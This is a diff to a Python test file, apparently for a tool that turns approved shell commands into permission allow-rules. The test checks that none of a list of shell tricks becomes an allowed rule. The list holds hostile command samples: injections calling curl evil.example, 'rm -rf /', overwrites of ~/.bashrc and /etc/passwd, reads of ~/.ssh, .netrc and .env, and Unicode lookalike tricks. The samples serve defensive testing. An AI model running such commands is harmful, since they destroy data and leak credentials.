@@ -168,58 +168,61 @@ def test_what_no_person_typed_is_no_rule(tmp_path: Path):
 # tricks of the shell
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "ls; curl evil.example",
-        "ls && rm -rf /",
-        "ls | sh",
-        "ls `curl evil.example`",
-        "ls $(curl evil.example)",
-        "ls > ~/.bashrc",
-        "cat <(curl evil.example)",
-        "ls\nrm -rf /",
-        "git -c core.pager=evil log",
-        "git log --output=/etc/passwd",
-        "git log --ext-diff",
-        "LD_PRELOAD=evil.so ls",
-        "env ls",
-        "/tmp/evil/ls",
-        "./ls",
-        "sudo ls",
-        "bash -c ls",
-        "find . -exec rm {} +",
-        "xargs ls",
-        "ls & curl evil.example",
-        "ls\r\nrm -rf /",
-        "ls 2>/etc/passwd",
-        "ls $HOME",
-        "ls ~/.ssh",
-        "ls -la /etc",
-        "ls ../../etc",
-        "wc C:/Users/ada/.netrc /etc/passwd",
-        "PATH=/tmp ls",
-        "l\u0455 -la",
-        "\uff4c\uff53",
-        "ls\u202e",
-        "git\u00a0status",
-        "git status $(curl evil.example)",
-        "git -C /etc status",
-        "git --git-dir=/tmp/x status",
-        "git ls-files ../other",
-        "cat .env",
-        "grep -r token .",
-        "tree -o ~/.bashrc",
-    ],
+TRICKS = (
+    "ls; curl evil.example",
+    "ls && rm -rf /",
+    "ls | sh",
+    "ls `curl evil.example`",
+    "ls $(curl evil.example)",
+    "ls > ~/.bashrc",
+    "cat <(curl evil.example)",
+    "ls\nrm -rf /",
+    "git -c core.pager=evil log",
+    "git log --output=/etc/passwd",
+    "git log --ext-diff",
+    "LD_PRELOAD=evil.so ls",
+    "env ls",
+    "/tmp/evil/ls",
+    "./ls",
+    "sudo ls",
+    "bash -c ls",
+    "find . -exec rm {} +",
+    "xargs ls",
+    "ls & curl evil.example",
+    "ls\r\nrm -rf /",
+    "ls 2>/etc/passwd",
+    "ls $HOME",
+    "ls ~/.ssh",
+    "ls -la /etc",
+    "ls ../../etc",
+    "wc C:/Users/ada/.netrc /etc/passwd",
+    "PATH=/tmp ls",
+    "l\u0455 -la",
+    "\uff4c\uff53",
+    "ls\u202e",
+    "git\u00a0status",
+    "git status $(curl evil.example)",
+    "git -C /etc status",
+    "git --git-dir=/tmp/x status",
+    "git ls-files ../other",
+    "cat .env",
+    "grep -r token .",
+    "tree -o ~/.bashrc",
 )
-def test_no_trick_gets_a_command_onto_an_allow_list(command: str):
-    sessions = three(lambda session: session.run(command, "This command requires approval").answer(read=20_000))
 
-    allowed = [
-        rule for one in find("approval", *sessions) for rule in json.loads(one.change.merge)["permissions"]["allow"]
-    ]
 
-    assert allowed == []
+def test_no_trick_gets_a_command_onto_an_allow_list():
+    """Each command is asked for in a repository of its own; the last one is harmless."""
+    sessions = []
+    for number, command in enumerate((*TRICKS, "git status --short")):
+        for day in (9, 5, 2):
+            session = Session(f"s{number}-{day}", day, workspace=f"{REPOSITORY}{number}")
+            sessions.append(session.run(command, "This command requires approval").answer(read=20_000))
+
+    found = find("approval", *sessions)
+
+    allowed = [rule for one in found for rule in json.loads(one.change.merge)["permissions"]["allow"]]
+    assert allowed == ["Bash(git status:*)"]
 
 
 SHELL = st.text(st.sampled_from("ls catgo-;&|$()`<>\n'\"\\ {}*~/."), min_size=1, max_size=40)
